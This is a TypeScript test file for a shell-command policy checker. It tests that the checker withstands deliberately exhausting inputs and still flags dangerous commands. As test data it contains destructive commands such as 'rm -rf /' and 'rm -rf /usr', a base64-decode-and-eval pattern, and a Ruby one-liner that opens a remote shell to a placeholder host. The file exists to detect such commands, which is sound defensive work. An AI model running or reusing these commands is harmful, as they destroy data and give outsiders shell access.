import { describe, expect, test } from "vitest";
import { judge } from "../../../src/core/policy/judge.ts";
import type { Verdict } from "../../../src/core/policy/verdict.ts";
import { PLACE } from "../../attacks/shared-corpus.ts";

/** As much of a text as is read at all, made of one piece again and again. */
const filled = (piece: string, letters = 64 * 1024 - 64): string => piece.repeat(Math.floor(letters / piece.length));
const verdictOn = (command: string): Verdict => judge(command, PLACE);
const rulesOf = (command: string): readonly string[] => verdictOn(command).findings.map(({ rule }) => rule);

describe("a text made to wear the judge out", () => {
  test("a value that doubles at every turn is given up, not followed", () => {
    expect(verdictOn(filled("x=$x$x;")).decision).toBe("ask");
    expect(rulesOf(`x=ab; ${"x=$x$x;".repeat(40)} rm -rf "$x"`)).toContain("delete-unknown");
  });

  test("an action of find is not searched for actions of its own", () => {
    expect(rulesOf(filled("find . -exec "))).toContain("too-deep");
  });

  test("a name that could be many programs is not guessed inside a guess", () => {
    const { decision, parts } = verdictOn("echo '* * * * *oot sh /tmp/x' zstd -dc x | sh");
    expect(decision).not.toBe("allow");
    expect(parts.length).toBeLessThan(100);
  });

  test("commands that carry commands share one budget with every guess about them", () => {
    const { decision, findings } = verdictOn(filled("ip 'sudo x rm -rf / ' "));
    expect(decision).not.toBe("allow");
    expect(findings.length).toBeLessThanOrEqual(120);
  });

  test("more words than are looked at are asked about, and the first ones still denied", () => {
    expect(rulesOf(`rm ${filled("ab ")}`)).toEqual(["too-many"]);
    expect(rulesOf(`rm -rf / ${filled("ab ")}`)).toContain("delete-vital");
    expect(rulesOf(`rm ${"ab ".repeat(2000)}`)).toEqual(["ordinary"]);
  });

  test("what source code says twice is looked for once", () => {
    expect(rulesOf(`python3 -c '${filled("eval ", 60_000)} b64decode'`)).toContain("run-decoded");
    expect(rulesOf(`ruby -e 'require "socket"; s = TCPSocket.new("h.example", 9); exec "sh"'`)).toContain(
      "remote-shell",
    );
  });
});

describe("a text longer than any user reads", () => {
  const body = "a line of the file\n".repeat(40_000);

  test("is judged as a whole where it is long because of a file that it carries", () => {
    for (const long of [`cat > f <<'E'\n${body}E\n`, `cat > f <<E\n${body}E\n`, `printf %s '${body}' > f`]) {
      expect(rulesOf(long)).toEqual(["ordinary"]);
      expect(rulesOf(`${long}\nrm -rf /usr`)).toContain("delete-vital");
      expect(rulesOf(`bash <<'BASH'\n${long}\nrm -rf /usr\nBASH\n`)).toContain("delete-vital");
    }
  });

  test("is asked about where it has too many parts, and its beginning is still judged", () => {
    for (const piece of ["echo a\n", "$(a) ", "<<a ", "$((1)) "]) {
      const long = `echo ${filled(piece, 200_000)}`;
      expect(verdictOn(long).decision).toBe("ask");
      expect(rulesOf(`rm -rf /usr\n${long}`)).toContain("delete-vital");
    }
  });
});

test("a long text of any shape is judged in time that grows with its length alone", () => {
  // Quadratic work on these would take minutes; the test's own time limit is the judge.
  const shapes = ["x ", "''", '""', "$ ", "$v ", "$v''", "{a,b} ", "a;", "a|", ">f ", "a=1 ", "a* "];
  for (const shape of shapes) {
    const text = `v=a; [ x ] && v=b; echo ${shape.repeat(30_000 / shape.length)}`;
    expect(["allow", "ask", "deny"]).toContain(judge(text, { cwd: "/w", home: "/h", workspace: "/w" }).decision);
  }
});
